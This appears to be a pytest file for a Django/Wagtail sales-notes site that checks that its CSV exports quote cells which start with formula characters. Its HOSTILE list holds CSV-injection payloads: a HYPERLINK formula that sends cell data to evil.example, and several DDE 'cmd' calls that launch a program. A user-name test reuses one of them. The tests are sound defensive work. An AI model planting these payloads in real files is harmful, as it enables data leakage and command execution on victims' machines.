"""Spreadsheet formulas typed by anyone never run in a marketer's CSV download.

A cell starting with = + - @ (or a tab or carriage return) is run as a formula by Excel,
LibreOffice and Google Sheets; every CSV the site writes starts such a cell with a quote.
"""

import csv
import io

import pytest

from django.urls import reverse

from wagtail.log_actions import log

from content.models import ContentRequest
from personas.factories import create_note
from personas.models import ObjectionNote
from tests.conftest import client_for, make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",  # forms strip these two; the import and the API may not
    "\r=2+2",
]


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


def test_notes_export_quotes_formula_text_and_keeps_plain_text(rep_client, rep, marketer_client, persona, objection):
    for text in [*HOSTILE, "They said it costs too much."]:
        response = rep_client.post(
            reverse("note_create"),
            {
                "persona": persona.pk,
                "objection": objection.pk,
                "text": text,
                "deal_stage": "proposal",
                "outcome": "lost",
                "helped": "unknown",
            },
        )
        assert response.status_code == 302, text
    create_note(persona, objection, rep, text="\t=3+3")  # as the import or the API could store it

    listing = reverse("wagtailsnippets_personas_objectionnote:list")
    texts = column(csv_rows(marketer_client.get(listing, {"export": "csv"})), "What the prospect said")

    stored = list(ObjectionNote.objects.values_list("text", flat=True))
    assert len(stored) == len(HOSTILE) + 2 and "\t=3+3" in stored and "-2+3" in stored
    hostile = [text for text in stored if text != "They said it costs too much."]
    assert sorted(texts) == sorted(["They said it costs too much.", *("'" + text for text in hostile)])


def test_content_requests_export_quotes_formula_text(rep_client, marketer_client, persona, objection):
    for text in [*HOSTILE, "-12.5"]:
        rep_client.post("/requests/new/", {"persona": persona.pk, "objection": objection.pk, "description": text})
    stored = list(ContentRequest.objects.values_list("description", flat=True))
    assert len(stored) == len(HOSTILE) + 1

    listing = reverse("wagtailsnippets_content_contentrequest:list")
    descriptions = column(csv_rows(marketer_client.get(listing, {"export": "csv"})), "What would help")

    # A negative amount is a number to a spreadsheet, not a formula: it stays as typed.
    assert sorted(descriptions) == sorted(["-12.5", *("'" + text for text in stored if text != "-12.5")])


def test_wagtail_site_history_export_quotes_a_user_name_set_to_a_formula(persona):
    """A rep may set their own name in the admin's account settings; Wagtail's reports show it."""
    rep = make_user("sneaky", "Sales", first_name="=cmd|' /C calc'!A0", last_name="x")
    log(instance=persona, action="wagtail.edit", user=rep)
    admin = make_user("boss", is_staff=True, is_superuser=True)

    response = client_for(admin).get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})

    assert "'=cmd|' /C calc'!A0 x" in column(csv_rows(response), "User")
